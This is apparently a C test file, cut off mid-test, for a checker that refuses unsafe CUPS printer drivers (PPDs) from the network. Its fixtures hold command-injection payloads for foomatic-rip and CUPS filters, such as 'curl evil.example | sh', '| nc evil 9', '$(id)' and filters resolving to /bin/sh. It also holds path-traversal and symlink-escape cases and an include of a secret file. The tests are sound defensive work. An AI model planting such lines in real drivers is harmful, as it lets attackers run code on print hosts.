/*
 * The PPD checks: real distribution PPDs pass, every command template is
 * refused whatever it holds (a foomatic PPD passes only once rewritten for
 * PDF), and each way a PPD from the wire could make the guest run something
 * else is refused with its reason.
 */
#pragma GCC diagnostic ignored "-Wdeprecated-declarations"

#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cups/cups.h>
#include <cups/ppd.h>

#include "ppd.h"
#include "runner.h"

#define FILTER_DIR	"/usr/lib/cups/filter"
#define DRIVER		"/usr/lib/cups/driver/openprinting-ppds"
#define GENERIC_PDF	"/usr/share/ppd/cupsfilters/Generic-PDF_Printer-PDF.ppd"
/* A Ricoh laser driven by foomatic-rip, with a multi-line command line. */
#define FOOMATIC_URI	"openprinting-ppds:0/ppd/openprinting/Ricoh/PXL/Ricoh-SP_212w_PXL.ppd"
/* A plain PostScript PPD without filters. */
#define POSTSCRIPT_URI	"openprinting-ppds:0/ppd/openprinting/Brother/BR5250_2_GPL.ppd"

/* Four lines, so that the first line a test adds is line 5. */
#define HDR "*PPD-Adobe: \"4.3\"\n*FormatVersion: \"4.3\"\n" \
	"*LanguageVersion: English\n*NickName: \"Test\"\n"
#define FOOMATIC_FILTER "*cupsFilter: \"application/vnd.cups-postscript 0 foomatic-rip\"\n"

/* Fetched once in test_suite(), before check forks the tests. */
static char *foomatic_ppd, *postscript_ppd;
static size_t foomatic_len, postscript_len;

static char *
driver_cat(const char *uri, size_t *len)
{
	char cmd[512], *buf = NULL;
	size_t cap = 0, n = 0, got;
	FILE *p;

	snprintf(cmd, sizeof(cmd), "%s cat '%s' 2>/dev/null", DRIVER, uri);
	if ((p = popen(cmd, "r")) == NULL)
		return NULL;
	do {
		if (n + 65536 > cap) {
			char *nb = realloc(buf, cap = 2 * cap + 65536);

			if (nb == NULL)
				break;
			buf = nb;
		}
		got = fread(buf + n, 1, cap - n, p);
		n += got;
	} while (got > 0);
	if (pclose(p) != 0 || n == 0) {
		free(buf);
		return NULL;
	}
	*len = n;
	return buf;
}

static char *
slurp(const char *path, size_t *len)
{
	struct stat st;
	char *buf;
	int fd = open(path, O_RDONLY);

	ck_assert_msg(fd >= 0, "%s: %s", path, strerror(errno));
	ck_assert_int_eq(fstat(fd, &st), 0);
	buf = malloc((size_t)st.st_size + 1);
	ck_assert_ptr_nonnull(buf);
	ck_assert_int_eq(read(fd, buf, (size_t)st.st_size), st.st_size);
	close(fd);
	*len = (size_t)st.st_size;
	return buf;
}

static struct ppd_policy
policy(void)
{
	struct ppd_policy pol = { 4 << 20, FILTER_DIR, NULL };

	return pol;
}

static int
check(const char *ppd, size_t len, const struct ppd_policy *pol, char *err,
    size_t errlen)
{
	return ppd_check_safe(ppd, len, pol, err, errlen);
}

/* Asserts a refusal whose reason holds every one of the NULL-ended words. */
static void
expect_refused_len(const char *ppd, size_t len, const struct ppd_policy *pol, ...)
{
	char err[512];
	const char *w;
	va_list ap;

	ck_assert_int_eq(check(ppd, len, pol, err, sizeof(err)), -EPERM);
	va_start(ap, pol);
	while ((w = va_arg(ap, const char *)) != NULL)
		ck_assert_msg(strstr(err, w) != NULL, "reason \"%s\" lacks \"%s\"",
		    err, w);
	va_end(ap);
}

#define expect_refused(ppd, pol, ...) \
	expect_refused_len(ppd, strlen(ppd), pol, __VA_ARGS__, (const char *)NULL)

static void
expect_ok_len(const char *ppd, size_t len, const struct ppd_policy *pol)
{
	char err[512] = "";
	int rc = check(ppd, len, pol, err, sizeof(err));

	ck_assert_msg(rc == 0, "refused (%d): %s", rc, err);
}

#define expect_ok(ppd, pol) expect_ok_len(ppd, strlen(ppd), pol)

#define REWRITE_HDR "*% Rewritten by printredir: jobs leave this queue as PDF " \
	"for the host's driver.\n" \
	"*cupsFilter2: \"application/vnd.cups-pdf application/pdf 0 -\"\n" \
	"*cupsManualCopies: False\n"

static char *
to_crlf(const char *text)
{
	char *out = malloc(2 * strlen(text) + 1), *o = out;

	ck_assert_ptr_nonnull(out);
	for (; *text != '\0'; text++) {
		if (*text == '\n')
			*o++ = '\r';
		*o++ = *text;
	}
	*o = '\0';
	return out;
}

/*
 * Statements whose keyword is kw (or starts with it, when prefix is set),
 * counted line by line: the rewritten drivers keep foomatic's keywords in
 * choice code ("%% FoomaticRIPOptionSetting"), which is no statement.
 */
static int
count_statements(const char *text, size_t len, const char *kw, int prefix)
{
	const char *end = text + len, *nl;
	size_t n = strlen(kw);
	int count = 0;

	for (const char *l = text; l < end; l = nl ? nl + 1 : end) {
		nl = memchr(l, '\n', (size_t)(end - l));
		if (l[0] == '*' && (size_t)(end - l) > n + 1 &&
		    strncasecmp(l + 1, kw, n) == 0 &&
		    (prefix || strchr(":/ \t", l[1 + n]) != NULL))
			count++;
	}
	return count;
}

/* Asserts a refusal for the template at where: "*KEYWORD on line N". */
#define expect_template(ppd, pol, where, ...) \
	expect_refused(ppd, pol, "command template " where, \
	    "nothing of a driver may run in the guest", __VA_ARGS__)

static char *
rewrite_ok(const char *ppd, size_t len, size_t *outlen)
{
	char err[512] = "", *out = (char *)1;
	int rc = ppd_rewrite_pdf(ppd, len, SIZE_MAX, &out, outlen, err, sizeof(err));

	ck_assert_msg(rc == 0, "rewrite failed (%d): %s", rc, err);
	ck_assert_ptr_nonnull(out);
	ck_assert_uint_eq(strlen(out), *outlen);
	return out;
}

/*
 * Checks ppd (len bytes, changed in place) until it passes, each time taking
 * the keyword of the command template the check refused out of play ("*Foo"
 * becomes "*Xoo", same length): every refusal must be for a template, and
 * the count is how many templates were refused one by one.
 */
static int
refuse_each_template(char *ppd, size_t len, const struct ppd_policy *pol)
{
	char err[512];
	int n = 0, rc;

	while ((rc = check(ppd, len, pol, err, sizeof(err))) == -EPERM) {
		const char *at = strstr(err, " on line ");
		char *l = ppd;

		ck_assert_msg(strncmp(err, "command template *", 18) == 0 &&
		    at != NULL, "not refused for a template: %s", err);
		ck_assert_msg(strstr(err, "nothing of a driver may run in the guest"),
		    "%s", err);
		for (int i = atoi(at + 9); i > 1; i--) {
			l = memchr(l, '\n', len - (size_t)(l - ppd));
			ck_assert_ptr_nonnull(l++);
		}
		ck_assert_msg(l[0] == '*' && l[1] != 'X', "%s", err);
		l[1] = 'X';
		ck_assert_int_lt(++n, 1000);
	}
	ck_assert_msg(rc == 0, "refused (%d): %s", rc, err);
	return n;
}

START_TEST(generic_pdf_printer_passes)
{
	struct ppd_policy pol = policy();
	char nick[128], err[256];
	size_t len;
	char *ppd = slurp(GENERIC_PDF, &len);

	expect_ok_len(ppd, len, &pol);
	/* Regression: ppdOpen() on fmemopen() failed for every PPD. */
	ck_assert_int_eq(ppd_check_parse(ppd, len, nick, sizeof(nick), err,
	    sizeof(err)), 0);
	ck_assert_str_eq(nick, "Generic PDF Printer");
	free(ppd);
}
END_TEST

/* The host queue's defaults onto a guest PPD: IPP defaults mapped onto
 * the PPD's options as the PPD spells their choices, a PPD option's own
 * choice, and what the PPD cannot give left out. */
START_TEST(defaults_into_the_ppd)
{
	size_t len, outlen;
	char *ppd = slurp(GENERIC_PDF, &len), *out = NULL, choices[512];
	ppd_file_t *p;
	cups_file_t *f;
	char path[] = "/tmp/printredir-test-ppd-XXXXXX";
	int fd;

	ck_assert_int_eq(ppd_default_choices(ppd, len, "sides=two-sided-long-edge\n"
	    "media=iso_a4_210x297mm\nprint-color-mode=monochrome\nnumber-up=2\n"
	    "Resolution=600dpi\nNoSuchOption=x\nmanualfeed=nonsense\n", choices,
	    sizeof(choices)), 0);
	ck_assert_str_eq(choices, "Duplex=DuplexNoTumble\nPageSize=A4\n"
	    "ColorModel=grayscale\nResolution=600dpi\n");
	ck_assert_int_eq(ppd_set_defaults(ppd, len, choices, &out, &outlen), 0);
	ck_assert_ptr_nonnull(strstr(out, "\n*DefaultDuplex: DuplexNoTumble\n"));
	ck_assert_ptr_nonnull(strstr(out, "\n*DefaultPageSize: A4\n"));
	ck_assert_ptr_nonnull(strstr(out, "\n*DefaultPageRegion: A4\n"));
	ck_assert_ptr_nonnull(strstr(out, "\n*DefaultImageableArea: A4\n"));
	ck_assert_ptr_null(strstr(out, "*DefaultPageSize: Letter"));
	/* libcups reads the new defaults. */
	ck_assert_int_ge(fd = mkstemp(path), 0);
	ck_assert_int_eq(write(fd, out, outlen), (ssize_t)outlen);
	close(fd);
	ck_assert_ptr_nonnull(f = cupsFileOpen(path, "r"));
	ck_assert_ptr_nonnull(p = ppdOpen2(f));
	cupsFileClose(f);
	unlink(path);
	ppdMarkDefaults(p);
	ck_assert_str_eq(ppdFindMarkedChoice(p, "Duplex")->choice, "DuplexNoTumble");
	ck_assert_str_eq(ppdFindMarkedChoice(p, "ColorModel")->choice, "grayscale");
	ppdClose(p);
	free(out);
	/* A host queue's own PPD: the default of each option a dialog shows. */
	ck_assert_int_eq(ppd_ui_defaults(ppd, len, choices, sizeof(choices)), 0);
	ck_assert_ptr_nonnull(strstr(choices, "Duplex=None\n"));
	ck_assert_ptr_nonnull(strstr(choices, "PageSize=Letter\n"));
	ck_assert_ptr_null(strstr(choices, "PageRegion="));
	ck_assert_int_eq(ppd_ui_defaults(ppd, len, choices, 12), 0);	/* what fits */
	ck_assert_int_lt((int)strlen(choices), 12);
	/* None that apply: nothing to change. */
	ck_assert_int_eq(ppd_default_choices(ppd, len, "number-up=4\n", choices,
	    sizeof(choices)), 0);
	ck_assert_str_eq(choices, "");
	free(ppd);
}
END_TEST

/* The agent takes the NickName from the check's own parse: it is
 * ppd_check_parse()'s, and none when the driver is refused. */
START_TEST(check_gives_the_nickname)
{
	struct ppd_policy pol = policy();
	char nick[128], parsed[128], err[512];
	char *out;
	size_t outlen;

	out = rewrite_ok(foomatic_ppd, foomatic_len, &outlen);
	ck_assert_int_eq(ppd_check_safe_nick(out, outlen, &pol, nick, sizeof(nick),
	    err, sizeof(err)), 0);
	ck_assert_int_eq(ppd_check_parse(out, outlen, parsed, sizeof(parsed), err,
	    sizeof(err)), 0);
	ck_assert_str_eq(nick, parsed);
	ck_assert_str_ne(nick, "");
	free(out);
	/* Not rewritten, it is refused: no name. */
	ck_assert_int_eq(ppd_check_safe_nick(foomatic_ppd, foomatic_len, &pol, nick,
	    sizeof(nick), err, sizeof(err)), -EPERM);
	ck_assert_str_eq(nick, "");
	/* NULL, or no room, is fine. */
	ck_assert_int_eq(ppd_check_safe_nick(postscript_ppd, postscript_len, &pol,
	    NULL, 0, err, sizeof(err)), 0);
}
END_TEST

START_TEST(distribution_ppds_pass)
{
	struct ppd_policy pol = policy();
	glob_t g;

	ck_assert_int_eq(glob("/usr/share/ppd/cupsfilters/*.ppd", 0, NULL, &g), 0);
	for (size_t i = 0; i < g.gl_pathc; i++) {
		size_t len;
		char *ppd = slurp(g.gl_pathv[i], &len);

		expect_ok_len(ppd, len, &pol);
		free(ppd);
	}
	globfree(&g);
	expect_ok_len(postscript_ppd, postscript_len, &pol);
}
END_TEST

START_TEST(foomatic_ppd_is_refused)
{
	struct ppd_policy pol = policy();
	char *copy, *crlf, *out;
	size_t n = 0, outlen;

	/* foomatic-rip is installed: its command line is what is refused. */
	expect_refused_len(foomatic_ppd, foomatic_len, &pol, "command template",
	    "*FoomaticRIPCommandLine on line 54",
	    "nothing of a driver may run in the guest", "(printf",
	    (const char *)NULL);
	/* So is every template after it, down to the last option setting. */
	copy = malloc(foomatic_len);
	ck_assert_ptr_nonnull(copy);
	memcpy(copy, foomatic_ppd, foomatic_len);
	ck_assert_int_gt(refuse_each_template(copy, foomatic_len, &pol), 30);
	free(copy);

	/* The same driver with CRLF line ends is refused the same way. */
	crlf = malloc(2 * foomatic_len);
	ck_assert_ptr_nonnull(crlf);
	for (size_t i = 0; i < foomatic_len; i++) {
		if (foomatic_ppd[i] == '\n')
			crlf[n++] = '\r';
		crlf[n++] = foomatic_ppd[i];
	}
	expect_refused_len(crlf, n, &pol, "*FoomaticRIPCommandLine on line 54",
	    "nothing of a driver may run in the guest", (const char *)NULL);
	free(crlf);

	/* Rewritten, it has none left and passes. */
	out = rewrite_ok(foomatic_ppd, foomatic_len, &outlen);
	expect_ok_len(out, outlen, &pol);
	free(out);
}
END_TEST

START_TEST(filter_not_installed)
{
	struct ppd_policy pol = policy();

	expect_refused(HDR "*cupsFilter2: \"application/pdf application/vnd.cups-pdf"
	    "  0   nosuchfilter\"\n", &pol, "filter \"nosuchfilter\"",
	    "*cupsFilter2 on line 5", "is not installed in " FILTER_DIR);
	expect_refused(HDR "*cupsPreFilter: \"application/pdf 0 nosuchprefilter\"\n",
	    &pol, "filter \"nosuchprefilter\"", "*cupsPreFilter on line 5",
	    "is not installed");
	/* Installed ones, "-" and cupsFilter2's maxsize() pass. */
	expect_ok(HDR "*cupsFilter: \"application/vnd.cups-pdf 0 -\"\n"
	    "*cupsFilter2: \"application/pdf application/vnd.cups-pdf 0 "
	    "maxsize(1000) pdftopdf\"\n*cupsPreFilter: \"application/pdf 0 "
	    "pdftopdf\"\n", &pol);
}
END_TEST

START_TEST(filter_outside_the_filter_folder)
{
	struct ppd_policy pol = policy();

	expect_refused(HDR "*cupsFilter: \"application/pdf 0 /bin/sh\"\n", &pol,
	    "filter \"/bin/sh\"", "*cupsFilter on line 5", "is outside " FILTER_DIR);
	expect_refused(HDR "*cupsFilter: \"application/pdf 0 ../../bin/sh\"\n",
	    &pol, "filter \"../../bin/sh\"", "is not a plain file name");
	expect_refused(HDR "*cupsFilter2: \"application/pdf application/x 0 "
	    FILTER_DIR "/../../../../bin/sh\"\n", &pol, "is outside");
	expect_refused(HDR "*cupsFilter: \"application/pdf 0 pdftopdf;id\"\n",
	    &pol, "\"pdftopdf;id\"", "is not a plain file name");
	/* cupsd takes the whole rest of the line as the program. */
	expect_refused(HDR "*cupsFilter: \"application/pdf 0 pdftopdf  x\"\n",
	    &pol, "\"pdftopdf  x\"", "is not a plain file name");
	expect_refused(HDR "*cupsFilter: \"application/pdf pdftopdf\"\n", &pol,
	    "*cupsFilter on line 5 is malformed");
	/* An absolute path inside the folder is fine. */
	expect_ok(HDR "*cupsFilter: \"application/pdf 0 " FILTER_DIR "/pdftopdf\"\n",
	    &pol);
}
END_TEST

START_TEST(symlink_escape)
{
	char dir[512], path[600], err[512];
	struct ppd_policy pol = policy();
	const char *ppd_good = HDR "*cupsFilter: \"application/pdf 0 good\"\n";
	const char *ppd_evil = HDR "*cupsFilter: \"application/pdf 0 evil\"\n";
	const char *ppd_data = HDR "*cupsFilter: \"application/pdf 0 data\"\n";
	const char *ppd_inner = HDR "*cupsFilter: \"application/pdf 0 inner\"\n";
	int fd;

	snprintf(dir, sizeof(dir), "%s/filter", runner_tmpdir());
	ck_assert_int_eq(mkdir(dir, 0755), 0);
	snprintf(path, sizeof(path), "%s/good", dir);
	ck_assert_int_ge(fd = open(path, O_WRONLY | O_CREAT, 0755), 0);
	close(fd);
	snprintf(path, sizeof(path), "%s/data", dir);
	ck_assert_int_ge(fd = open(path, O_WRONLY | O_CREAT, 0644), 0);
	close(fd);
	snprintf(path, sizeof(path), "%s/evil", dir);
	ck_assert_int_eq(symlink("/bin/sh", path), 0);
	snprintf(path, sizeof(path), "%s/inner", dir);
	ck_assert_int_eq(symlink("good", path), 0);
	pol.filter_dir = dir;

	expect_ok(ppd_good, &pol);
	expect_ok(ppd_inner, &pol);
	ck_assert_int_eq(check(ppd_evil, strlen(ppd_evil), &pol, err, sizeof(err)),
	    -EPERM);
	ck_assert_msg(strstr(err, "filter \"evil\"") && strstr(err, "resolves to") &&
	    strstr(err, "outside") && strstr(err, dir), "%s", err);
	ck_assert_int_eq(check(ppd_data, strlen(ppd_data), &pol, err, sizeof(err)),
	    -EPERM);
	ck_assert_msg(strstr(err, "is not an executable file"), "%s", err);
}
END_TEST

START_TEST(command_template_injection)
{
	const char *ppd = HDR FOOMATIC_FILTER
	    "*FoomaticRIPCommandLine: \"gs -q -sDEVICE=pxlmono -sOutputFile=- -; "
	    "curl evil.example | sh\"\n";
	static const char *const each[] = {
		HDR FOOMATIC_FILTER "*FoomaticRIPPostPipe: \"| nc evil 9\"\n",
		HDR FOOMATIC_FILTER "*FoomaticRIPCommandLinePDF: \"gs;id\"\n",
		HDR FOOMATIC_FILTER "*FoomaticRIPOptionSetting Res=600: \" -r600;id\"\n",
		HDR FOOMATIC_FILTER "*FoomaticRIPOptionPrototype Res: \" -r%s;id\"\n",
	};
	struct ppd_policy pol = policy();
	char *out;
	size_t outlen;

	expect_template(ppd, &pol, "*FoomaticRIPCommandLine on line 6",
	    "; curl evil.example");
	expect_template(each[0], &pol, "*FoomaticRIPPostPipe on line 6",
	    "| nc evil 9");
	expect_template(each[1], &pol, "*FoomaticRIPCommandLinePDF on line 6",
	    "gs;id");
	expect_template(each[2], &pol, "*FoomaticRIPOptionSetting Res=600 on "
	    "line 6", "-r600;id");
	expect_template(each[3], &pol, "*FoomaticRIPOptionPrototype Res on line 6",
	    "-r%s;id");
	/* The rewrite takes every one of them out, and foomatic-rip with it. */
	out = rewrite_ok(ppd, strlen(ppd), &outlen);
	ck_assert_str_eq(out, "*PPD-Adobe: \"4.3\"\n" REWRITE_HDR
	    "*FormatVersion: \"4.3\"\n*LanguageVersion: English\n"
	    "*NickName: \"Test\"\n");
	expect_ok_len(out, outlen, &pol);
	free(out);
	for (size_t i = 0; i < sizeof(each) / sizeof(each[0]); i++) {
		out = rewrite_ok(each[i], strlen(each[i]), &outlen);
		ck_assert_int_eq(count_statements(out, outlen, "FoomaticRIP", 1), 0);
		expect_ok_len(out, outlen, &pol);
		free(out);
	}
}
END_TEST

START_TEST(templates_refused_whatever_they_hold)
{
	struct ppd_policy pol = policy();

	/* A plain renderer command line, harmless as it is. */
	expect_template(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLine: \"gs -q "
	    "-dSAFER -sDEVICE=pxlmono -sOutputFile=- -\"\n", &pol,
	    "*FoomaticRIPCommandLine on line 6", "\"gs -q -dSAFER -sDEVICE=pxlmono");
	/* Nothing at all, and no foomatic-rip to run it. */
	expect_template(HDR "*FoomaticRIPCommandLine: \"\"\n", &pol,
	    "*FoomaticRIPCommandLine on line 5", ": \"\"");
	expect_template(HDR "*FoomaticRIPOptionSetting Res=600: \"\"\n", &pol,
	    "*FoomaticRIPOptionSetting Res=600 on line 5", ": \"\"");
	expect_template(HDR "*FoomaticRIPPostPipe: \"cat\"\n", &pol,
	    "*FoomaticRIPPostPipe on line 5", "\"cat\"");
	/* The keyword counts, not its case. */
	expect_refused(HDR "*foomaticripcommandline: \"gs\"\n", &pol,
	    "command template *foomaticripcommandline on line 5");
}
END_TEST

START_TEST(multi_line_command_line)
{
	const char *ppd = HDR FOOMATIC_FILTER
	    "*FoomaticRIPCommandLine: \"gs -q -dSAFER &&\n"
	    "-sDEVICE=pxlmono %A&&\n"
	    "-sOutputFile=- -\"\n*End\n*DefaultColorSpace: Gray\n";
	struct ppd_policy pol = policy();
	char *crlf = to_crlf(ppd), *out;
	size_t outlen;

	/* The sample is the value as libcups hands it back: "&&" and newlines
	 * kept, and escaped. */
	expect_template(ppd, &pol, "*FoomaticRIPCommandLine on line 6",
	    "gs -q -dSAFER &&\\n-sDEVICE");
	expect_template(crlf, &pol, "*FoomaticRIPCommandLine on line 6",
	    "-dSAFER &&");
	/* The rewrite drops all of its lines, and its *End, but nothing after. */
	out = rewrite_ok(ppd, strlen(ppd), &outlen);
	ck_assert_str_eq(out, "*PPD-Adobe: \"4.3\"\n" REWRITE_HDR
	    "*FormatVersion: \"4.3\"\n*LanguageVersion: English\n"
	    "*NickName: \"Test\"\n*DefaultColorSpace: Gray\n");
	expect_ok_len(out, outlen, &pol);
	free(out);
	free(crlf);
}
END_TEST

START_TEST(cmdline_option_code_is_a_template)
{
	/* No command line, but the option foomatic-rip would paste into %A. */
	const char *options = HDR FOOMATIC_FILTER
	    "*FoomaticRIPOption Res: enum CmdLine A\n"
	    "*OpenUI *Res: PickOne\n*DefaultRes: 600\n";
	const char *marked = "*Res 300: \"%% FoomaticRIPOptionSetting: Res=300\"\n"
	    "*CloseUI: *Res\n";
	struct ppd_policy pol = policy();
	char ppd[1024];

	/* Choice code that only points at an option setting is no template. */
	snprintf(ppd, sizeof(ppd), "%s%s", options, marked);
	expect_ok(ppd, &pol);
	snprintf(ppd, sizeof(ppd), "%s*Res 600: \"; id >/tmp/owned;\"\n%s",
	    options, marked);
	expect_refused(ppd, &pol, "command template *Res 600 on line 9",
	    "nothing of a driver may run in the guest", "id >/tmp/owned;");
	/* Even empty, it is. */
	snprintf(ppd, sizeof(ppd), "%s*Res 600: \"\"\n%s", options, marked);
	expect_refused(ppd, &pol, "command template *Res 600 on line 9");
	/* libcups sees the mark, foomatic-rip a value that does not start with
	 * it: the value cannot tell, and counts as a template. */
	snprintf(ppd, sizeof(ppd), "%s*Res 600: x%%%% FoomaticRIPOptionSetting: "
	    "\"$(id)\"\n%s", options, marked);
	expect_refused(ppd, &pol, "command template *Res 600 on line 9",
	    "with stray quotes", "$(id)");
	/* The custom choice's code is pasted too. */
	snprintf(ppd, sizeof(ppd), "%s%s*CustomRes True: \"-r%%s\"\n", options,
	    marked);
	expect_refused(ppd, &pol, "command template *CustomRes True on line 11",
	    "-r%s");
	/* A default that is not a choice is pasted as text. */
	snprintf(ppd, sizeof(ppd), "%s%s*FoomaticRIPOption Name: string CmdLine B\n"
	    "*FoomaticRIPOptionMaxLength Name: 20\n*DefaultName: $(id)\n",
	    options, marked);
	expect_refused(ppd, &pol, "command template *DefaultName on line 13",
	    "$(id)");
	snprintf(ppd, sizeof(ppd), "%s%s*FoomaticRIPDefaultRes: `id`\n", options,
	    marked);
	expect_refused(ppd, &pol, "command template *FoomaticRIPDefaultRes on "
	    "line 11", "`id`");
}
END_TEST

START_TEST(prefilter_missing)
{
	struct ppd_policy pol = policy();

	expect_refused(HDR "*cupsPreFilter: \"application/vnd.cups-postscript 0 "
	    "psprefilter\"\n", &pol, "filter \"psprefilter\"",
	    "*cupsPreFilter on line 5", "not installed in " FILTER_DIR);
}
END_TEST

START_TEST(port_monitor)
{
	char dir[512];
	struct ppd_policy pol = policy();
	const char *ok = HDR "*cupsPortMonitor socket/TBCP: \"tbcp\"\n"
	    "*cupsPortMonitor usb/None: \"none\"\n";

	expect_refused(HDR "*cupsPortMonitor socket/Evil: \"../../../bin/sh\"\n",
	    &pol, "port monitor \"../../../bin/sh\"", "*cupsPortMonitor on line 5",
	    "not a plain file name");
	expect_refused(HDR "*cupsPortMonitor socket/Evil: \"nosuchmonitor\"\n", &pol,
	    "port monitor \"nosuchmonitor\"", "not installed in /usr/lib/cups/monitor");
	expect_ok(ok, &pol);
	/* An explicit monitor folder is used as given. */
	snprintf(dir, sizeof(dir), "%s", runner_tmpdir());
	pol.monitor_dir = dir;
	expect_refused(ok, &pol, "port monitor \"tbcp\"", "not installed in", dir);
}
END_TEST

START_TEST(garbage_and_empty)
{
	static const unsigned char junk[] = {
		0x7f, 'E', 'L', 'F', 0x02, 0x01, 0x01, 0x00, 0xff, 0xfe, '\n'
	};
	struct ppd_policy pol = policy();
	char err[256];

	expect_refused("", &pol, "driver is empty");
	expect_refused("hello, world\n", &pol, "PPD does not parse",
	    "Missing asterisk in column 1 on line 1");
	expect_refused("*PPD-Adobe: \"4.3\"\nnot a keyword\n", &pol,
	    "PPD does not parse", "line 2");
	expect_refused_len((const char *)junk, sizeof(junk), &pol,
	    "control character 0x02 on line 1", (const char *)NULL);
	ck_assert_int_eq(ppd_check_parse("", 0, NULL, 0, err, sizeof(err)), -EBADMSG);
}
END_TEST

START_TEST(size_cap)
{
	const char *ppd = HDR "*cupsFilter: \"application/vnd.cups-pdf 0 -\"\n";
	size_t len = strlen(ppd);
	struct ppd_policy pol = policy();
	char err[256], want[128];

	pol.max_size = len;
	expect_ok(ppd, &pol);
	pol.max_size = len - 1;
	ck_assert_int_eq(check(ppd, len, &pol, err, sizeof(err)), -EPERM);
	snprintf(want, sizeof(want), "driver is %zu bytes, over the cap of %zu",
	    len, len - 1);
	ck_assert_str_eq(err, want);
}
END_TEST

START_TEST(binary_bytes)
{
	static const char nul[] = HDR "*FoomaticRIPCommandLine: \"gs\0; id\"\n";
	struct ppd_policy pol = policy();

	expect_refused_len(nul, sizeof(nul) - 1, &pol, "NUL byte on line 5",
	    (const char *)NULL);
	expect_refused(HDR "*% x\r*FoomaticRIPCommandLine: \"id\"\n", &pol,
	    "carriage return without a line feed on line 5");
	expect_refused(HDR "*Foomatic\x1aRIPCommandLine: \"id\"\n", &pol,
	    "control character 0x1a on line 5");
	expect_refused("\x1f\x8b\x08\x00", &pol, "gzip-compressed");
}
END_TEST

/* A PPD of HDR with n options of k choices each (a malloc'ed string). */
static char *
many_options(int n, int k)
{
	size_t cap = strlen(HDR) + (size_t)n * (100 + (size_t)k * 40) + 1, o;
	char *p = malloc(cap);

	ck_assert_ptr_nonnull(p);
	o = (size_t)snprintf(p, cap, "%s", HDR);
	for (int i = 0; i < n; i++) {
		o += (size_t)snprintf(p + o, cap - o, "*OpenUI *Opt%d/Opt: PickOne\n"
		    "*DefaultOpt%d: C0\n", i, i);
		for (int c = 0; c < k; c++)
			o += (size_t)snprintf(p + o, cap - o, "*Opt%d C%d: \"\"\n", i, c);
		o += (size_t)snprintf(p + o, cap - o, "*CloseUI: *Opt%d\n", i);
	}
	return p;
}

/* Drivers that parse but would not behave: bounds on what libcups is given
 * to parse (it grows faster than the PPD), and what cupsd needs. */
START_TEST(bounds_and_nickname)
{
	struct ppd_policy pol = policy();
	char err[256], *ppd;

	ppd = many_options(1000, 2);
	ck_assert_int_eq(ppd_check_parse(ppd, strlen(ppd), NULL, 0, err, sizeof(err)), 0);
	free(ppd);
	ppd = many_options(1001, 2);
	ck_assert_int_eq(ppd_check_parse(ppd, strlen(ppd), NULL, 0, err, sizeof(err)),
	    -EBADMSG);
	ck_assert_str_eq(err, "driver has 1001 options, at most 1000");
	expect_refused_len(ppd, strlen(ppd), &pol, "1001 options", (const char *)NULL);
	free(ppd);
	ppd = many_options(1, 2001);
	ck_assert_int_eq(ppd_check_parse(ppd, strlen(ppd), NULL, 0, err, sizeof(err)),
	    -EBADMSG);
	ck_assert_str_eq(err, "driver option Opt0 has 2001 choices, at most 2000");
	free(ppd);
	ppd = many_options(30, 1700);	/* each within bounds, not all */
	ck_assert_int_eq(ppd_check_parse(ppd, strlen(ppd), NULL, 0, err, sizeof(err)),
	    -EBADMSG);
	ck_assert_str_eq(err, "driver has 51000 choices in all, at most 50000");
	free(ppd);
	expect_refused("*PPD-Adobe: \"4.3\"\n*FormatVersion: \"4.3\"\n"
	    "*LanguageVersion: English\n*ModelName: \"x\"\n", &pol,
	    "no *NickName (cupsd would take it for a bad PPD file)");
	/* The broker's parse refuses gzip too: libcups would unpack it with
	 * no bound (182 KiB of it cost a gigabyte). */
	ck_assert_int_eq(ppd_check_parse("\x1f\x8b\x08\x00", 4, NULL, 0, err,
	    sizeof(err)), -EBADMSG);
	ck_assert_str_eq(err, "driver is gzip-compressed; only plain-text PPDs are accepted");
}
END_TEST

START_TEST(readers_must_agree)
{
	struct ppd_policy pol = policy();
	/* A real Lexmark quirk: harmless, so accepted. */
	const char *lexmark = HDR "* DefaultScreenProc: \"Dot\"\n";
	/* An odd number of quotes keeps libcups' value going. */
	const char *hidden = HDR FOOMATIC_FILTER "*Foo: \"a\"b\"\n"
	    "*FoomaticRIPCommandLine: \"id\"\n*Bar: \"x\"\n";

	expect_refused(hidden, &pol, "line 7", "foomatic-rip reads keyword "
	    "*FoomaticRIPCommandLine here, libcups part of another line's value");
	expect_refused(HDR FOOMATIC_FILTER "*Foo: x \"\n*FoomaticRIPCommandLine: "
	    "\"id\"\n*Bar: \"\n", &pol, "line 7", "foomatic-rip reads keyword");
	/* libcups files it as a choice, foomatic-rip as the command line. */
	expect_refused(HDR FOOMATIC_FILTER "*OpenUI *FoomaticRIPCommandLine: PickOne\n"
	    "*FoomaticRIPCommandLine x: \"id\"\n*CloseUI: *FoomaticRIPCommandLine\n",
	    &pol, "*FoomaticRIPCommandLine on line 7 is not read as an attribute");
	expect_refused(HDR FOOMATIC_FILTER "* FoomaticRIPCommandLine: \"id\"\n", &pol,
	    "line 6: foomatic-rip reads keyword *FoomaticRIPCommandLine here, "
	    "libcups no keyword");
	/* foomatic-rip glues the next line onto an unquoted "&&" value. */
	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLine: gs&&\n"
	    "*Zap: \";id\"\n", &pol, "line 7: foomatic-rip reads this line as "
	    "part of the value of *FoomaticRIPCommandLine");
	expect_refused(HDR FOOMATIC_FILTER "*FoomaticRIPCommandLine: x\"gs\"\n",
	    &pol, "*FoomaticRIPCommandLine on line 6 (with stray quotes");
	expect_refused(HDR "*%APLWORKSET START\n*FoomaticRIPCommandLine: \"id\"\n",
	    &pol, "line 5: *%APLWORKSET START hides the rest");
	expect_refused(HDR "*Include: \"/etc/cups/secret.ppd\"\n", &pol,
	    "*Include on line 5 is refused", "/etc/cups/secret.ppd");
	expect_ok(lexmark, &pol);
}
END_TEST

START_TEST(repeated_keywords)
{
	struct ppd_policy pol = policy();

	/* libcups leaks the first of these; found by fuzz_ppd. */
	expect_refused(HDR "*NickName: \"Again\"\n", &pol,
	    "driver repeats *NickName (lines 4 and 5)");
	expect_refused("*PPD-Adobe:4\n*JCLBegin:\n*JCLBegin:", &pol,
	    "driver repeats *JCLBegin (lines 2 and 3)");
	expect_refused(HDR "*OpenUI *Res: PickOne\n*CloseUI: *Res\n"
	    "*CustomRes True: \"x\"\n*CustomRes True: \"y\"\n*A: \"1\"\n", &pol,
